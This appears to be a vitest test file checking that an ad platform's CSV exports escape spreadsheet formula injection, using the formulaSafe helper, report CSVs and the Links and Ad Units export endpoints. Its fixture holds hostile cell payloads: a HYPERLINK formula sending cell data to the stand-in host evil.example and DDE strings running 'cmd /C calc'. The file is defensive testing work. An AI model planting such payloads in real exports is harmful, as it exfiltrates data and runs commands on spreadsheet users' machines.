// Exports never hand a spreadsheet a formula: the one escaping function, the report CSVs built in
// the page, and the embedded API's Links and Ad Units exports.
import * as XLSX from '@e965/xlsx';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { adUnits } from '../../src/mocks/handlers/inventory/apps';
import { links } from '../../src/mocks/handlers/inventory/links';
import { call, setErrorToast } from '../../src/providers/http';
import { reportCsv } from '../../src/reports/export/exportRows';
import { csvCell, formulaSafe } from '../../src/common/formulaSafe';
import { ADMIN_EMAIL, loginAs } from './helpers';

/** Every start a spreadsheet takes for a formula, each with a payload behind it. */
const HOSTILE = {
  '=': '=HYPERLINK("https://evil.example/?d="&A1,"x")',
  '+': '+1+cmd|" /C calc"!A0',
  '-': '-2+3+cmd|" /C calc"!A0',
  '@': '@SUM(1+1)*cmd|" /C calc"!A0',
  tab: '\t=1+1',
  CR: '\r=1+1',
};
const payloads = Object.values(HOSTILE);

/** The cells of a CSV as a spreadsheet program reads them (SheetJS: formulas land in `f`). */
function sheetCells(csv: string): XLSX.CellObject[][] {
  const book = XLSX.read(csv.replace(/^\uFEFF/, ''), { type: 'string', raw: false });
  const sheet = book.Sheets[book.SheetNames[0]];
  const rows = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true });
  return rows.map((row, r) => row.map((_, c) => sheet[XLSX.utils.encode_cell({ r, c })] as XLSX.CellObject));
}
const formulas = (csv: string) =>
  sheetCells(csv)
    .flat()
    .filter((cell) => cell?.f !== undefined);

describe('formulaSafe', () => {
  it.each(Object.entries(HOSTILE))('puts an apostrophe before text starting with %s', (_, payload) => {
    expect(formulaSafe(payload)).toBe(`'${payload}`);
  });

  it('leaves other text, numbers and plain negative numbers (text or not) as they are', () => {
    expect(formulaSafe('reader_banner')).toBe('reader_banner');
    expect(formulaSafe(' =1+1')).toBe(' =1+1');
    expect(formulaSafe(-5)).toBe('-5');
    expect(formulaSafe(-0.25)).toBe('-0.25');
    expect(formulaSafe('-5')).toBe('-5');
    expect(formulaSafe('-1,234.50')).toBe('-1,234.50');
    expect(formulaSafe('-12.5%')).toBe('-12.5%');
    expect(formulaSafe(null)).toBe('');
    expect(formulaSafe(undefined)).toBe('');
  });

  it('escapes text that only looks numeric at first: -5+1, -1e5, +5', () => {
    expect(formulaSafe('-5+1')).toBe("'-5+1");
    expect(formulaSafe('-1e5')).toBe("'-1e5");
    expect(formulaSafe('+5')).toBe("'+5");
  });

  it('quotes CSV cells after escaping, so the apostrophe stays inside the quotes', () => {
    expect(csvCell(HOSTILE['='])).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""x"")"`);
    expect(csvCell(HOSTILE.CR)).toBe(`"'\r=1+1"`);
    expect(csvCell(HOSTILE.tab)).toBe(`'\t=1+1`);
  });
});

describe('report CSVs built in the page', () => {
  it('escape every formula start in dimension cells and keep negative numbers as numbers', () => {
    const columns = [
      { key: 'Keyword', title: 'Keyword' },
      { key: 'Revenue', title: 'Revenue', format: 'money' as const },
    ];
    const csv = reportCsv(
      columns,
      payloads.map((Keyword) => ({ Keyword, Revenue: -5 })),
      undefined,
    );
    expect(formulas(csv)).toEqual([]);
    const cells = sheetCells(csv);
    expect(cells.slice(1).map((row) => row[0].v)).toEqual(payloads.map((payload) => `'${payload}`));
    expect(cells.slice(1).map((row) => [row[1].t, row[1].v])).toEqual(payloads.map(() => ['n', -5]));
  });
});

describe("the embedded API's list exports", () => {
  beforeEach(async () => {
    setErrorToast(vi.fn());
    await loginAs(ADMIN_EMAIL);
  });

  const exportText = async (path: string) =>
    (await call<string>({ path, responseType: 'text', silent: true })).data as string;

  it.each(Object.entries(HOSTILE))(
    'Links: a keyword starting with %s comes out escaped',
    async (_, payload) => {
      const link = links()[0];
      link.key_word = payload;
      link.utm_source = payload;
      const csv = await exportText('/ssp_publisher/link/export');
      expect(formulas(csv)).toEqual([]);
      const [header, ...rows] = sheetCells(csv);
      const row = rows.find((cells) => cells[0].v === link.id)!;
      const column = (name: string) => header.findIndex((cell) => cell.v === name);
      expect(row[column('key_word')].v).toBe(`'${payload}`);
      expect(row[column('utm_source')].v).toBe(`'${payload}`);
    },
  );

  it.each(Object.entries(HOSTILE))(
    'Ad Units: a unit name starting with %s comes out escaped, the price stays a number',
    async (_, payload) => {
      const unit = adUnits()[0];
      unit.zone_name = payload;
      unit.price = -5;
      const csv = await exportText('/ssp_publisher/adunit/export');
      expect(formulas(csv)).toEqual([]);
      const [header, ...rows] = sheetCells(csv);
      const row = rows.find((cells) => cells[0].v === unit.zone_id)!;
      const column = (name: string) => header.findIndex((cell) => cell.v === name);
      expect(row[column('zone_name')].v).toBe(`'${payload}`);
      expect([row[column('price')].t, row[column('price')].v]).toEqual(['n', -5]);
    },
  );

  it('Links: the raw export text holds the apostrophe-prefixed, quoted cell', async () => {
    links()[0].key_word = HOSTILE['='];
    const csv = await exportText('/ssp_publisher/link/export');
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""x"")",`);
  });
});
